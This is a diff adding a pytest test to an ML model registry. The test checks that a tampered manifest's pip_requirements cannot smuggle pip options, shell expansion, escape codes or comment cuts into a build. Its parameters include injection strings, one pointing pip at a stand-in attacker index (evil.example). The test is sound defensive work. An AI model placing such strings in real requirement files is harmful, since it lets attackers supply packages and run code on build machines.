@@ -139,3 +139,24 @@ def test_a_manifest_cannot_write_lines_into_the_dockerfile(model_dir, tmp_path) 
     with pytest.raises(InvalidInputError, match="PEP 508"):
         build_context(str(model_dir), tmp_path / "ctx3")
     assert not (tmp_path / "ctx3").exists()
+
+
+@pytest.mark.parametrize("line", ['numpy; python_version == "x --index-url=http://evil.example/simple"',
+                                  'numpy; os_name == "${HOME}"', 'numpy; os_name == "\x1b[2Jok"',
+                                  'numpy; os_name == "a #b"', 'numpy; os_name == "a\\"'])
+def test_a_tampered_manifest_cannot_add_pip_syntax_to_requirements(model_dir, tmp_path, line: str) -> None:
+    """The uploader wrote the manifest: a line packaging accepts but pip splits into an option (or expands, or
+    cuts at a comment) must stop the build before anything is written, and loading the model."""
+    from mloop.registry import load_model
+    from mloop.registry.packaging import MANIFEST
+
+    manifest = yaml.safe_load((model_dir / MANIFEST).read_text())
+    manifest["pip_requirements"] = [*manifest["pip_requirements"], line]
+    (model_dir / MANIFEST).write_text(yaml.safe_dump(manifest))
+    with pytest.raises(InvalidInputError, match="control characters") as info:
+        build_context(str(model_dir), tmp_path / "ctx")
+    assert info.value.field.startswith("manifest.pip_requirements[") and info.value.value == line
+    assert not (tmp_path / "ctx").exists()
+    with pytest.raises(InvalidInputError) as loading:
+        load_model(model_dir, cache=False)
+    assert loading.value.field.startswith("manifest.pip_requirements[")
